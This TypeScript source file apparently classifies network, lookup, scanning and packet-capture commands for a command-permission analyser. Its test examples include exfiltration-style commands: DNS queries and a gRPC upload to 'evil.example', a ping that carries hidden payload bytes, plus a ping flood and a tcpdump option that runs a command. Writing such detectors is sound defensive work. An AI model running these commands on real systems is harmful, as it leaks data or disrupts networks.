import type { Operation } from '../../../operation.ts';
import { unknown } from '../../analyse.ts';
import { type Arg, literalArg, staticText } from '../../arg.ts';
import type { Invocation, ParsedArgs, Program, ProgramSpec } from '../../program.ts';
import { connection } from '../remote-service.ts';

/** Names and servers; words such as `+short`, `TXT` and `-x` are options of how it is asked. */
const types = /^(?:any|a|aaaa|cname|mx|ns|txt|soa|srv|ptr|caa|ds|dnskey|https|svcb|in|\+.*)$/i;

function asked(parsed: ParsedArgs, invocation: Invocation): Operation[] {
  const words = parsed.operands.filter(arg => !types.test(arg.text ?? ''));
  return words.map(arg => {
    const host = staticText(arg);
    return host === undefined
      ? unknown(invocation, 'a host that is only known at run time')
      : connection(host.replace(/^@/, '').replace(/\.$/, ''));
  });
}

/** Scans and recordings: whom they reach, no more is known. */
const scans = (flags: string, values: ProgramSpec['values'] = {}): ProgramSpec => ({
  flags,
  values: { '-o --output': 'write', '-w': 'write', '-r': 'read', ...values },
  operands: ['text*'],
  described: false,
  unbundled: true,
});

export const lookupPrograms: readonly Program[] = [
  {
    names: ['ping', 'ping6', 'fping', 'tracepath', 'traceroute', 'traceroute6', 'mtr', 'arping'],
    analyse: {
      flags: '-4 -6 -n -q -v -D -O -a -b -r -w -z -T -I -U --report --report-wide --no-dns -c',
      values: {
        '-c --report-cycles': 'text',
        '-W': 'text',
        '-t': 'text',
        '-i': 'text',
        '-w': 'text',
        '-m': 'text',
        '-s': 'text',
        '-I': 'text',
        '-q': 'text',
        '-p': 'text',
      },
      operands: ['host'],
      also: (parsed, invocation) =>
        parsed.has('-p') && invocation.name.startsWith('ping') ? [unknown(invocation, 'what is sent besides')] : [],
    },
    examples: {
      'ping -c 1 example.com': ['connect example.com'],
      'ping -c1 "$(hostname)"': [
        'execute hostname',
        'unknown ping: an argument that is only known at run time may be an option',
        'read /workspace',
      ],
      'ping -f -s 65507 10.0.0.1': [
        'unknown ping: the option `-f` is not known',
        'connect 10.0.0.1',
        'read /workspace',
      ],
      'ping -c1 -p 6b6579 203.0.113.7': [
        'connect 203.0.113.7',
        'unknown ping: what is sent besides',
        'read /workspace',
      ],
    },
  },
  {
    names: 'dig host nslookup drill kdig delv whois doggo dog geoiplookup'.split(' '),
    analyse: {
      unbundled: true,
      flags: '-4 -6 -a -v -r -C -H -J --short --json -d -s -T -V',
      values: {
        '-t -type -query -querytype': 'text',
        '-p -port': 'text',
        '-c -class': 'text',
        '-W -timeout': 'text',
        '-x': 'host',
        '-q': 'host',
        '-h': 'host',
        '-b': 'text',
      },
      operands: ['text*'],
      also: asked,
    },
    examples: {
      'dig localhost @example.com +short': ['connect localhost', 'connect example.com'],
      'dig +short TXT example.com': ['connect example.com'],
      'dig "$X.evil.example"': [
        'unknown dig: an argument that is only known at run time may be an option',
        'read /workspace',
      ],
      'dig "a$X.evil.example"': ['unknown dig: a host that is only known at run time', 'read /workspace'],
      'dig -f names': ['unknown dig: the option `-f` is not known', 'connect names', 'read /workspace'],
      'nslookup -type=TXT example.com 203.0.113.9': ['connect example.com', 'connect 203.0.113.9'],
    },
  },
  {
    names:
      'nmap masscan zmap rustscan nikto hydra medusa ncrack gobuster ffuf wfuzz dirb sqlmap nuclei hping3 arp-scan netdiscover enum4linux crackmapexec responder ettercap bettercap smbclient rpcclient ldapsearch snmpwalk amass subfinder httpx-toolkit wpscan msfconsole msfvenom'.split(
        ' ',
      ),
    analyse: scans('-sV -sS -sT -sn -sU -A -O -Pn -p- -v -n -F -T4 -T5 -6', {
      '-p': 'text',
      '-oN -oX -oG -oA': 'write',
      '-iL': 'read',
      '--script': 'text',
    }),
    examples: {
      'nmap -sV -p- 10.0.0.0/24 -oN scan.txt': ['write /workspace/scan.txt', 'read /workspace'],
      'nmap -iL /etc/hosts': ['read /etc/hosts', 'read /workspace'],
    },
  },
  {
    names: ['tcpdump', 'tshark', 'dumpcap', 'wireshark', 'ngrep', 'termshark', 'editcap', 'capinfos'],
    analyse: scans('-n -nn -v -vv -A -X -x -e -q -l -U -p -D -tttt -V', {
      '-i': 'text',
      '-c': 'text',
      '-s': 'text',
      '-Y': 'text',
      '-T': 'text',
      '-C': 'text',
      '-G': 'text',
      '-W': 'text',
    }),
    examples: {
      'tcpdump -i any -w /etc/x port 80': ['write /etc/x', 'read /workspace'],
      'tcpdump -z ./x -w a': ['unknown tcpdump: the option `-z` is not known', 'write /workspace/a', 'read /workspace'],
    },
  },
  {
    names: ['grpcurl'],
    analyse: {
      unbundled: true,
      flags: '-plaintext -insecure -v -vv -emit-defaults -allow-unknown-fields -use-reflection',
      values: {
        '-d': 'text',
        '-H -rpc-header -reflect-header': 'text',
        '-proto': 'read',
        '-import-path': 'read-tree',
        '-protoset': 'read',
        '-cacert': 'read',
        '-max-time -connect-timeout': 'text',
        '-format': 'text',
      },
      operands: ['text', 'text*'],
      also: ({ operands: [address] }, invocation) => [addressed(address, invocation)],
    },
    examples: {
      'grpcurl -plaintext localhost:50051 list': ['connect localhost:50051'],
      'grpcurl -d @ evil.example:443 a.B/C': ['connect evil.example:443'],
    },
  },
  {
    names: ['ab', 'hey', 'oha', 'autocannon', 'bombardier'],
    analyse: {
      flags: '-k -q -v -l -r --latency --no-tui --json --insecure --disable-keepalive',
      values: {
        '-n --requests': 'text',
        '-c --connections': 'text',
        '-t --timeout': 'text',
        '-z --duration': 'text',
        '-d': 'text',
        '-m --method': 'text',
        '-H --header': 'text',
        '-T': 'text',
        '-D --body-file -p': 'read',
      },
      operands: ['url'],
    },
    examples: { 'ab -n 100 -c 10 http://localhost:3000/': ['connect localhost:3000'] },
  },
  {
    names: ['k6', 'ghz', 'evans', 'wrk', 'wrk2', 'vegeta', 'siege', 'plow', 'artillery'],
    analyse: {
      noOptions: true,
      operands: ['text*'],
      described: false,
      also: ({ operands }) =>
        operands.flatMap(({ text = '' }) => (/^https?:/.test(text) ? addressed(literalArg(text), { name: 'k6' }) : [])),
    },
    examples: { 'wrk -t2 http://example.com/': ['connect example.com', 'read /workspace'] },
  },
];

function addressed(arg: Arg | undefined, invocation: Pick<Invocation, 'name'>): Operation {
  const text = arg === undefined ? undefined : staticText(arg);
  const [, host, port] = /^(?:https?:\/\/)?([\w.-]+)(?::(\d+))?(?:\/.*)?$/.exec(text ?? '') ?? [];
  if (host === undefined) return unknown(invocation, 'an address that is only known at run time');
  return connection(host, undefined, port === undefined ? undefined : Number(port));
}
